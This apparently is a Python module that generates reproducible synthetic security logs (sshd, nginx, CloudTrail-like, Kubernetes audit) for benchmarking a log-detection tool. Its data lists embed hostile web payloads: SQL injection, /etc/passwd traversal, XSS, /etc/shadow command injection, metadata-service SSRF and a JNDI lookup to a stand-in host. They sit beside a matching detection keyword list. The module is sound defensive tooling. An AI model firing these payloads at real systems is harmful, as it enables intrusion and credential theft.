"""A seeded generator of realistic NDJSON security logs, for benchmarks (and tests) of any stage.

The mix follows what a secmon user feeds in: sshd authentication events, web access logs,
CloudTrail-like API calls and Kubernetes audit events, each with Datadog-style attributes
(``network.client.ip``, ``usr.name``, ``evt.name``, ``http.url``, ...). The same seed always gives
the same bytes, so a benchmark answer (a hit count) is reproducible; nothing reads the clock or
the environment.

    from benchmarks import corpus
    corpus.write_corpus(path, 250_000_000, seed=7)    # streams, at most that many bytes
    data = corpus.generate(2_000_000, seed=7)         # the same first bytes, in memory
    pats = corpus.patterns(2_000, seed=7)             # IPs (some occur), rule keywords, IOC domains

Attacker addresses come from a fixed pool per seed, so a pattern list built from that pool has
real hits; "clean" IOC addresses are drawn from ranges the generator never emits.
"""

from __future__ import annotations

import hashlib
import random
import tempfile
from collections.abc import Iterator
from pathlib import Path

# How many attacker addresses exist per seed; patterns() draws the "occurring" IPs from them.
ATTACKER_POOL = 400
# Attacker traffic is a minority of lines, as in real logs.
ATTACKER_SHARE = 0.08

USERS = ["root", "admin", "ubuntu", "deploy", "alice", "bob", "carol", "git", "postgres", "oracle", "test", "guest"]
HOSTS = [f"{role}-{i:02d}" for role in ("web", "bastion", "db", "api", "worker") for i in range(1, 9)]
SSHD_TEMPLATES = [
    ("Accepted publickey for {user} from {ip} port {port} ssh2: RSA SHA256:{fp}", "success"),
    ("Accepted password for {user} from {ip} port {port} ssh2", "success"),
    ("Failed password for {user} from {ip} port {port} ssh2", "failure"),
    ("Failed password for invalid user {user} from {ip} port {port} ssh2", "failure"),
    ("Invalid user {user} from {ip} port {port}", "failure"),
    ("Connection closed by authenticating user {user} {ip} port {port} [preauth]", "failure"),
    ("Disconnected from user {user} {ip} port {port}", "success"),
]
PATHS = [
    "/", "/index.html", "/api/v1/users", "/api/v1/orders", "/api/v1/login", "/static/app.js", "/static/site.css",
    "/health", "/metrics", "/admin", "/wp-login.php", "/.env", "/cgi-bin/luci", "/search", "/cart", "/checkout",
]
ATTACK_QUERIES = [
    "?id=1%27%20union%20select%20password%20from%20users--", "?file=../../../../etc/passwd", "?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "?cmd=cat%20/etc/shadow", "?url=http://169.254.169.254/latest/meta-data/", "?${jndi:ldap://x.example/a}",
]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "kube-probe/1.29",
]
ATTACK_AGENTS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "masscan/1.3", "zgrab/0.x", "nuclei/3.1.0"]
CLOUDTRAIL_EVENTS = [
    ("sts.amazonaws.com", "AssumeRole"), ("s3.amazonaws.com", "GetObject"), ("s3.amazonaws.com", "PutObject"),
    ("s3.amazonaws.com", "ListBuckets"), ("ec2.amazonaws.com", "DescribeInstances"), ("ec2.amazonaws.com", "RunInstances"),
    ("iam.amazonaws.com", "ListUsers"), ("kms.amazonaws.com", "Decrypt"), ("signin.amazonaws.com", "ConsoleLogin"),
]
CLOUDTRAIL_ATTACK_EVENTS = [
    ("iam.amazonaws.com", "CreateAccessKey"), ("iam.amazonaws.com", "AttachUserPolicy"), ("cloudtrail.amazonaws.com", "StopLogging"),
    ("cloudtrail.amazonaws.com", "DeleteTrail"), ("guardduty.amazonaws.com", "DeleteDetector"), ("ec2.amazonaws.com", "ModifySnapshotAttribute"),
]
REGIONS = ["us-east-1", "us-west-2", "eu-west-1", "eu-central-1", "ap-southeast-2"]
K8S_VERBS = ["get", "list", "watch", "create", "update", "patch", "delete"]
K8S_RESOURCES = ["pods", "deployments", "services", "configmaps", "secrets", "nodes", "namespaces", "events"]
K8S_NAMESPACES = ["default", "kube-system", "payments", "frontend", "monitoring", "ci"]
K8S_USERS = [
    "system:serviceaccount:kube-system:replicaset-controller", "system:kube-scheduler", "system:node:worker-03",
    "alice@example.com", "ci-bot", "system:serviceaccount:ci:runner",
]

# Keywords a rule pack carries as literals (every one occurs in some generated line).
RULE_KEYWORDS = [
    "Failed password", "Invalid user", "Accepted password", "[preauth]", "union select", "/etc/passwd", "/etc/shadow",
    "169.254.169.254", "jndi:ldap", "<script>", "%3Cscript%3E", "sqlmap", "Nikto", "masscan", "nuclei", "wp-login.php",
    "/.env", "CreateAccessKey", "AttachUserPolicy", "StopLogging", "DeleteTrail", "DeleteDetector",
    "ModifySnapshotAttribute", "ConsoleLogin", "AssumeRole", "\"subresource\":\"exec\"", "secrets", "cluster-admin",
    "system:anonymous", "kube-system", "\"outcome\":\"failure\"", "\"status_code\":500", "\"errorCode\":\"AccessDenied\"",
    "root", "admin", "oracle", "postgres", "python-requests", "curl/", "Go-http-client",
]


def _octets(rng: random.Random, first: tuple[int, ...]) -> str:
    return f"{rng.choice(first)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def attacker_ips(seed: int) -> list[str]:
    """The seed's attacker addresses: public-looking, from first octets the benign pool never uses."""
    rng = random.Random(f"attackers-{seed}")
    return [_octets(rng, (5, 45, 91, 103, 185, 193)) for _ in range(ATTACKER_POOL)]


def patterns(n: int = 2_000, seed: int = 0) -> list[bytes]:
    """``n`` literal patterns a rule pack plus threat intel would hold.

    About 10% are attacker IPs that occur in the corpus, 15% are rule keywords and IOC-like
    domains, the rest IOC addresses that never occur (first octets 198/203, not generated).
    """
    rng = random.Random(f"patterns-{seed}")
    occurring = rng.sample(attacker_ips(seed), min(ATTACKER_POOL, max(1, n // 10)))
    keywords = list(RULE_KEYWORDS)
    while len(keywords) < n * 15 // 100:
        keywords.append(f"c2-{rng.randrange(16**6):06x}.{rng.choice(['top', 'xyz', 'ru', 'cn', 'io'])}")
    out: list[str] = occurring + keywords
    while len(out) < n:
        out.append(_octets(rng, (198, 203)))
    return [p.encode() for p in out[:n]]


class _Generator:
    def __init__(self, seed: int) -> None:
        self.rng = random.Random(f"corpus-{seed}")
        self.attackers = attacker_ips(seed)
        benign_rng = random.Random(f"benign-{seed}")
        self.benign = [_octets(benign_rng, (23, 34, 52, 64, 72, 82, 99, 142, 151, 172)) for _ in range(5_000)]
        self.internal = [f"10.{benign_rng.randrange(256)}.{benign_rng.randrange(256)}.{benign_rng.randrange(1, 255)}" for _ in range(2_000)]
        self.seconds = 1_700_000_000
        self.serial = 0

    def _ip(self) -> tuple[str, bool]:
        if self.rng.random() < ATTACKER_SHARE:
            return self.rng.choice(self.attackers), True
        return self.rng.choice(self.benign), False

    def _timestamp(self) -> str:
        self.seconds += self.rng.randrange(3)
        s = self.seconds
        days, rem = divmod(s, 86400)
        # 2023-11-14 is day 19675 since the epoch; keep the calendar simple: one month of days.
        day = 14 + (days - 19675) % 15
        return f"2023-11-{day:02d}T{rem // 3600:02d}:{rem % 3600 // 60:02d}:{rem % 60:02d}.{self.rng.randrange(1000):03d}Z"

    def sshd(self) -> str:
        rng = self.rng
        ip, attacker = self._ip()
        template, outcome = rng.choice(SSHD_TEMPLATES[2:] if attacker else SSHD_TEMPLATES)
        user = rng.choice(USERS)
        port = rng.randrange(1024, 65536)
        fp = hashlib.blake2b(f"{user}{ip}".encode(), digest_size=12).hexdigest()
        message = template.format(user=user, ip=ip, port=port, fp=fp)
        host = rng.choice(HOSTS)
        return (
            f'{{"timestamp":"{self._timestamp()}","host":"{host}","service":"sshd","source":"sshd",'
            f'"status":"{"warn" if outcome == "failure" else "info"}","message":"{message}",'
            f'"evt":{{"name":"authentication","outcome":"{outcome}"}},"usr":{{"name":"{user}"}},'
            f'"network":{{"client":{{"ip":"{ip}","port":{port}}}}},"process":{{"pid":{rng.randrange(1000, 99999)}}}}}'
        )

    def web(self) -> str:
        rng = self.rng
        ip, attacker = self._ip()
        method = rng.choice(["GET", "GET", "GET", "POST", "PUT", "DELETE"])
        url = rng.choice(PATHS) + (rng.choice(ATTACK_QUERIES) if attacker and rng.random() < 0.5 else "")
        agent = rng.choice(ATTACK_AGENTS if attacker and rng.random() < 0.5 else AGENTS)
        status = rng.choice([200, 200, 200, 200, 301, 304, 404, 403, 500] if not attacker else [404, 403, 200, 500])
        size = rng.randrange(0, 50_000)
        latency = rng.randrange(1, 3000)
        message = f'{ip} - - [{self.seconds}] \\"{method} {url} HTTP/1.1\\" {status} {size} \\"-\\" \\"{agent}\\"'
        return (
            f'{{"timestamp":"{self._timestamp()}","host":"{rng.choice(HOSTS)}","service":"nginx","source":"nginx",'
            f'"status":"{"error" if status >= 500 else "info"}","message":"{message}",'
            f'"http":{{"method":"{method}","url":"{url}","status_code":{status},"useragent":"{agent}"}},'
            f'"network":{{"client":{{"ip":"{ip}"}},"bytes_written":{size}}},"duration":{latency * 1_000_000}}}'
        )

    def cloudtrail(self) -> str:
        rng = self.rng
        ip, attacker = self._ip()
        source, name = rng.choice(CLOUDTRAIL_ATTACK_EVENTS if attacker and rng.random() < 0.4 else CLOUDTRAIL_EVENTS)
        user = rng.choice(USERS)
        account = f"{rng.randrange(10**11, 10**12)}"
        error = ',"errorCode":"AccessDenied","errorMessage":"User is not authorized"' if rng.random() < 0.07 else ""
        self.serial += 1
        return (
            f'{{"eventVersion":"1.08","eventTime":"{self._timestamp()}","eventSource":"{source}","eventName":"{name}",'
            f'"awsRegion":"{rng.choice(REGIONS)}","sourceIPAddress":"{ip}","userAgent":"aws-cli/2.{rng.randrange(20)}.0",'
            f'"userIdentity":{{"type":"IAMUser","principalId":"AIDA{self.serial:016X}",'
            f'"arn":"arn:aws:iam::{account}:user/{user}","accountId":"{account}","userName":"{user}"}}{error},'
            f'"requestID":"{rng.randrange(16**12):012x}","eventID":"{rng.randrange(16**16):016x}",'
            f'"readOnly":{"true" if name.startswith(("Get", "List", "Describe")) else "false"},"eventType":"AwsApiCall",'
            f'"recipientAccountId":"{account}","source":"cloudtrail"}}'
        )

    def k8s(self) -> str:
        rng = self.rng
        verb = rng.choice(K8S_VERBS)
        resource = rng.choice(K8S_RESOURCES)
        namespace = rng.choice(K8S_NAMESPACES)
        name = f"{resource[:-1]}-{rng.randrange(16**5):05x}"
        ip = rng.choice(self.internal)
        user = rng.choice(K8S_USERS + (["system:anonymous"] if rng.random() < 0.02 else []))
        sub = ""
        uri = f"/api/v1/namespaces/{namespace}/{resource}/{name}"
        if resource == "pods" and verb == "create" and rng.random() < 0.3:
            sub = ',"subresource":"exec"'
            uri += "/exec?command=sh&stdin=true&tty=true"
        code = rng.choice([200, 200, 200, 201, 403, 404])
        self.serial += 1
        return (
            f'{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata",'
            f'"auditID":"{rng.randrange(16**8):08x}-{self.serial:012x}","stage":"ResponseComplete",'
            f'"requestURI":"{uri}","verb":"{verb}","user":{{"username":"{user}","groups":["system:authenticated"]}},'
            f'"sourceIPs":["{ip}"],"userAgent":"kubectl/v1.29.{rng.randrange(5)}",'
            f'"objectRef":{{"resource":"{resource}","namespace":"{namespace}","name":"{name}"{sub}}},'
            f'"responseStatus":{{"code":{code}}},"requestReceivedTimestamp":"{self._timestamp()}","source":"kubernetes.audit"}}'
        )

    def lines(self) -> Iterator[str]:
        makers = [self.sshd, self.web, self.web, self.cloudtrail, self.k8s]
        rng = self.rng
        while True:
            yield rng.choice(makers)()


def iter_lines(seed: int = 0) -> Iterator[bytes]:
    """An endless stream of NDJSON lines (each ending in ``\\n``), the same for the same seed."""
    for line in _Generator(seed).lines():
        yield (line + "\n").encode()


def _chunks(n_bytes: int, seed: int) -> Iterator[bytes]:
    """Whole lines, batched, stopping before the first line that would pass ``n_bytes``."""
    total = 0
    batch: list[bytes] = []
    batch_bytes = 0
    for line in iter_lines(seed):
        if total + len(line) > n_bytes:
            break
        batch.append(line)
        total += len(line)
        batch_bytes += len(line)
        if batch_bytes >= 1 << 20:
            yield b"".join(batch)
            batch, batch_bytes = [], 0
    if batch:
        yield b"".join(batch)


def generate(n_bytes: int, seed: int = 0) -> bytes:
    """At most ``n_bytes`` of whole lines, in memory."""
    return b"".join(_chunks(n_bytes, seed))


def write_corpus(path: str | Path, n_bytes: int, seed: int = 0) -> int:
    """Stream at most ``n_bytes`` of whole lines to ``path``; returns the bytes written."""
    written = 0
    with open(path, "wb") as fh:
        for chunk in _chunks(n_bytes, seed):
            fh.write(chunk)
            written += len(chunk)
    return written


def cached_corpus(n_bytes: int, seed: int = 0, directory: str | Path | None = None) -> Path:
    """The corpus file for (size, seed), generated once into a temporary directory and reused."""
    folder = Path(directory) if directory else Path(tempfile.gettempdir()) / "secmon-bench"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"corpus-{seed}-{n_bytes}.ndjson"
    if not path.exists():
        partial = path.with_suffix(".partial")
        write_corpus(partial, n_bytes, seed)
        partial.replace(path)
    return path
